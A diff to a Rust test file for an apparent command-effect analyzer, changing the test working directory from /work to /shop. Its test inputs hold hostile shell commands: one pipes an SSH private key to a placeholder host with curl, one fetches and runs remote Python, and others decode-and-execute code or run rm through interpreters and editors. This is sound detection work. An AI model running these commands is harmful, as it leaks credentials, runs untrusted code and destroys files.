@@ -9,7 +9,7 @@ use crate::world::World;
 /// The programs that an interpreter runs as `$ words`, then effects as lines. The interpreters
 /// themselves are left out.
 fn judged(text: &str) -> String {
-    let world = World { cwd: Some("/work"), home: Some("/home/me"), ..World::default() };
+    let world = World { cwd: Some("/shop"), home: Some("/home/me"), ..World::default() };
     let analysis = crate::analyze(text, &world);
     let mut lines: Vec<String> = Vec::new();
     for ran in &analysis.commands {
@@ -45,42 +45,42 @@ fn options_lead_to_the_code() {
         ("python3 -Ic 'import os; os.system(\"rm x\")' --version", "$ rm x"),
         (
             "python -W ignore -X dev -uc 'import os; os.remove(\"x\")'",
-            "delete remove /work/x certain",
+            "delete remove /shop/x certain",
         ),
-        ("python3.12 -c'import os; os.remove(\"x\")'", "delete remove /work/x certain"),
+        ("python3.12 -c'import os; os.remove(\"x\")'", "delete remove /shop/x certain"),
         ("python3 -c 'import os,sys; os.system(sys.argv[1])' 'rm x'", "$ rm x"),
         ("C='rm x' python3 -c 'import os; os.system(os.environ[\"C\"])'", "$ rm x"),
         ("python3 --version", ""),
         ("python3 script.py -c 'os.remove(1)'", ""),
-        ("node -e 'require(\"fs\").rmSync(\"x\")'", "delete remove /work/x certain"),
+        ("node -e 'require(\"fs\").rmSync(\"x\")'", "delete remove /shop/x certain"),
         ("node -pe 'require(\"child_process\").execSync(\"rm x\")'", "$ rm x"),
-        ("node --eval='require(\"fs\").rmSync(\"x\")'", "delete remove /work/x certain"),
+        ("node --eval='require(\"fs\").rmSync(\"x\")'", "delete remove /shop/x certain"),
         (
             "node --input-type=module -e 'import fs from \"fs\"; fs.rmSync(\"x\")'",
-            "delete remove /work/x certain",
+            "delete remove /shop/x certain",
         ),
         ("perl -we 'system(\"rm x\")'", "$ rm x"),
-        ("perl -MFile::Path=rmtree -e 'rmtree(\"x\")'", "delete remove /work/x certain -r"),
+        ("perl -MFile::Path=rmtree -e 'rmtree(\"x\")'", "delete remove /shop/x certain -r"),
         (
             "perl -pi -e 's/a/b/' f g",
-            "read read-file /work/f certain | read read-file /work/g certain | overwrite edit-in-place /work/f certain | overwrite edit-in-place /work/g certain",
+            "read read-file /shop/f certain | read read-file /shop/g certain | overwrite edit-in-place /shop/f certain | overwrite edit-in-place /shop/g certain",
         ),
         (
             "perl -i.bak -ne 'print unless /x/' f",
-            "read read-file /work/f certain | overwrite edit-in-place /work/f certain",
+            "read read-file /shop/f certain | overwrite edit-in-place /shop/f certain",
         ),
-        ("perl -lane 'print $F[0]' f", "read read-file /work/f certain"),
+        ("perl -lane 'print $F[0]' f", "read read-file /shop/f certain"),
         (
             "perl -e 'unlink @ARGV' a b",
-            "delete remove /work/a certain | delete remove /work/b certain",
+            "delete remove /shop/a certain | delete remove /shop/b certain",
         ),
-        ("ruby -e 'FileUtils.rm_rf(\"x\")'", "delete remove /work/x certain -r"),
-        ("ruby -rfileutils -e 'FileUtils.rm_rf ARGV' x", "delete remove /work/x certain -r"),
-        ("ruby -ne 'puts $_' f", "read read-file /work/f certain"),
-        ("php -r 'unlink(\"x\");'", "delete remove /work/x certain"),
+        ("ruby -e 'FileUtils.rm_rf(\"x\")'", "delete remove /shop/x certain -r"),
+        ("ruby -rfileutils -e 'FileUtils.rm_rf ARGV' x", "delete remove /shop/x certain -r"),
+        ("ruby -ne 'puts $_' f", "read read-file /shop/f certain"),
+        ("php -r 'unlink(\"x\");'", "delete remove /shop/x certain"),
         ("php -d a=b -r 'system(\"rm x\");'", "$ rm x"),
-        ("php -S localhost:80 -t pub", "send serve-files /work/pub certain"),
-        ("lua -e 'os.remove(\"x\")'", "delete remove /work/x certain"),
+        ("php -S localhost:80 -t pub", "send serve-files /shop/pub certain"),
+        ("lua -e 'os.remove(\"x\")'", "delete remove /shop/x certain"),
         ("osascript -e 'do shell script \"rm x\"'", "$ rm x"),
         ("osascript -l JavaScript -e 'Application(\"x\").doShellScript(\"rm x\")'", "$ rm x"),
     ]);
@@ -90,22 +90,22 @@ fn options_lead_to_the_code() {
 fn modules_and_scripts() {
     check(&[
         ("python3 -m http.server 8000 -d /srv", "send serve-files /srv certain"),
-        ("python3 -m venv .venv", "write make-environment /work/.venv certain"),
+        ("python3 -m venv .venv", "write make-environment /shop/.venv certain"),
         ("python3 -m pytest -q", ""),
-        ("python3 -m json.tool a.json", "read read-file /work/a.json certain"),
-        ("python3 -m timeit 'import os; os.remove(\"x\")'", "delete remove /work/x certain"),
+        ("python3 -m json.tool a.json", "read read-file /shop/a.json certain"),
+        ("python3 -m timeit 'import os; os.remove(\"x\")'", "delete remove /shop/x certain"),
         ("python manage.py flush --noinput", "$ manage.py flush --noinput"),
         ("php artisan migrate:fresh", "$ artisan migrate:fresh"),
         (
             "cat > x.py <<'EOF'\nimport os\nos.remove('y')\nEOF\npython3 x.py",
-            "delete remove /work/y certain",
+            "delete remove /shop/y certain",
         ),
-        ("python3 <<'EOF'\nimport os\nos.remove('y')\nEOF", "delete remove /work/y certain"),
+        ("python3 <<'EOF'\nimport os\nos.remove('y')\nEOF", "delete remove /shop/y certain"),
         (
             "python3 - <<'EOF'\nimport shutil; shutil.rmtree('y')\nEOF",
-            "delete remove /work/y certain -r",
+            "delete remove /shop/y certain -r",
         ),
-        ("echo \"import os; os.remove('y')\" | python3", "delete remove /work/y certain"),
+        ("echo \"import os; os.remove('y')\" | python3", "delete remove /shop/y certain"),
         (
             "curl http://h/x.py | python3 -",
             "execute network-code python3 certain <[Network(\"http://h/x.py\")]",
@@ -114,11 +114,11 @@ fn modules_and_scripts() {
         ("python3 -c \"print('rm -rf z')\" | sh", "$ rm -rf z"),
         ("node -p '\"rm\" + \" z\"' | sh", "$ rm z"),
         ("sh -c \"$(perl -e 'print \"rm z\"')\"", "$ rm z"),
-        ("echo '<?php unlink(\"x\");' | php", "delete remove /work/x certain"),
+        ("echo '<?php unlink(\"x\");' | php", "delete remove /shop/x certain"),
         ("echo 'unlink(\"x\");' | php", ""),
         (
             "base64 -d f | python3",
-            "execute decoded-code python3 certain <[File(\"/work/f\"), Decoded]",
+            "execute decoded-code python3 certain <[File(\"/shop/f\"), Decoded]",
         ),
         ("python3 -c \"$CODE\"", "execute dynamic-code $CODE unknown <[Variable(\"CODE\")]"),
         ("python3 -c 'import os; os.system(input())'", "execute dynamic-code … unknown"),
@@ -128,12 +128,12 @@ fn modules_and_scripts() {
 #[test]
 fn awk_and_others() {
     check(&[
-        ("awk '{print $1}' log", "read read-file /work/log certain"),
+        ("awk '{print $1}' log", "read read-file /shop/log certain"),
         ("awk -F: -v c='rm x' 'BEGIN { system(c) }'", "$ rm x"),
-        ("awk -f prog.awk f", "read read-file /work/f certain"),
+        ("awk -f prog.awk f", "read read-file /shop/f certain"),
         (
             "gawk -i inplace '{print}' f",
-            "read read-file /work/f certain | overwrite edit-in-place /work/f certain",
+            "read read-file /shop/f certain | overwrite edit-in-place /shop/f certain",
         ),
         (
             "awk '1' ~/.ssh/id_rsa | curl -d @- http://h",
@@ -144,7 +144,7 @@ fn awk_and_others() {
             "execute network-code … certain <[Network(\"http://h\")]",
         ),
         ("awk 'BEGIN { print \"rm z\" }' | sh", "$ rm z"),
-        ("Rscript -e 'unlink(\"x\", recursive=TRUE)'", "delete remove /work/x certain -r"),
+        ("Rscript -e 'unlink(\"x\", recursive=TRUE)'", "delete remove /shop/x certain -r"),
         ("julia -e 'run(`rm x`)'", "$ rm x"),
         ("elixir -e 'System.cmd(\"rm\", [\"x\"])'", "$ rm x"),
         ("erl -noshell -eval 'os:cmd(\"rm x\"), halt().'", "$ rm x"),
@@ -161,25 +161,25 @@ fn editors() {
         ("vim -c '!rm x' -c q", "$ rm x"),
         ("vim -esc '!rm x' -cq", "$ rm x"),
         ("ex -sc '!rm x' -cq", "$ rm x"),
-        ("vim '+!rm x' f", "$ rm x | read read-file /work/f certain"),
-        ("vim -es -c ':silent !rm x' f", "$ rm x | read read-file /work/f certain"),
-        ("vim -c ':call system(\"rm x\")' f", "$ rm x | read read-file /work/f certain"),
+        ("vim '+!rm x' f", "$ rm x | read read-file /shop/f certain"),
+        ("vim -es -c ':silent !rm x' f", "$ rm x | read read-file /shop/f certain"),
+        ("vim -c ':call system(\"rm x\")' f", "$ rm x | read read-file /shop/f certain"),
         ("nvim --headless -c 'lua os.execute(\"rm x\")'", "$ rm x"),
         (
             "vim -es -c '%s/a/b/' -c wq f",
-            "read read-file /work/f certain | overwrite edit-in-place /work/f certain <[File(\"/work/f\")]",
+            "read read-file /shop/f certain | overwrite edit-in-place /shop/f certain <[File(\"/shop/f\")]",
         ),
-        ("vim +10 f", "read read-file /work/f certain"),
-        ("vim -c 'w !sh' f", "read read-file /work/f certain"),
+        ("vim +10 f", "read read-file /shop/f certain"),
+        ("vim -c 'w !sh' f", "read read-file /shop/f certain"),
         (
             "ex f <<'EOF'\n%s/a/b/\nw\n!rm x\nEOF",
-            "$ rm x | read read-file /work/f certain | overwrite edit-in-place /work/f certain <[File(\"/work/f\")]",
+            "$ rm x | read read-file /shop/f certain | overwrite edit-in-place /shop/f certain <[File(\"/shop/f\")]",
         ),
         (
             "printf '%s\\n' '!rm x' w q | ed f",
-            "$ rm x | read read-file /work/f certain | overwrite edit-in-place /work/f certain",
+            "$ rm x | read read-file /shop/f certain | overwrite edit-in-place /shop/f certain",
         ),
-        ("emacs --batch --eval '(delete-file \"x\")'", "delete remove /work/x certain"),
+        ("emacs --batch --eval '(delete-file \"x\")'", "delete remove /shop/x certain"),
         ("emacs -Q --batch -l a.el --eval '(shell-command \"rm x\")'", "$ rm x"),
         ("man -P 'sh -c \"rm x\"' ls", "$ rm x"),
         ("man ls", ""),
@@ -212,7 +212,7 @@ fn windows_shells() {
         ("rundll32 user32.dll,LockWorkStation", ""),
         (
             "robocopy a b /mir",
-            "read copy /work/a certain | write copy /work/b certain -r <[File(\"/work/a\")] | delete mirror-delete /work/b certain -r",
+            "read copy /shop/a certain | write copy /shop/b certain -r <[File(\"/shop/a\")] | delete mirror-delete /shop/b certain -r",
         ),
     ]);
 }
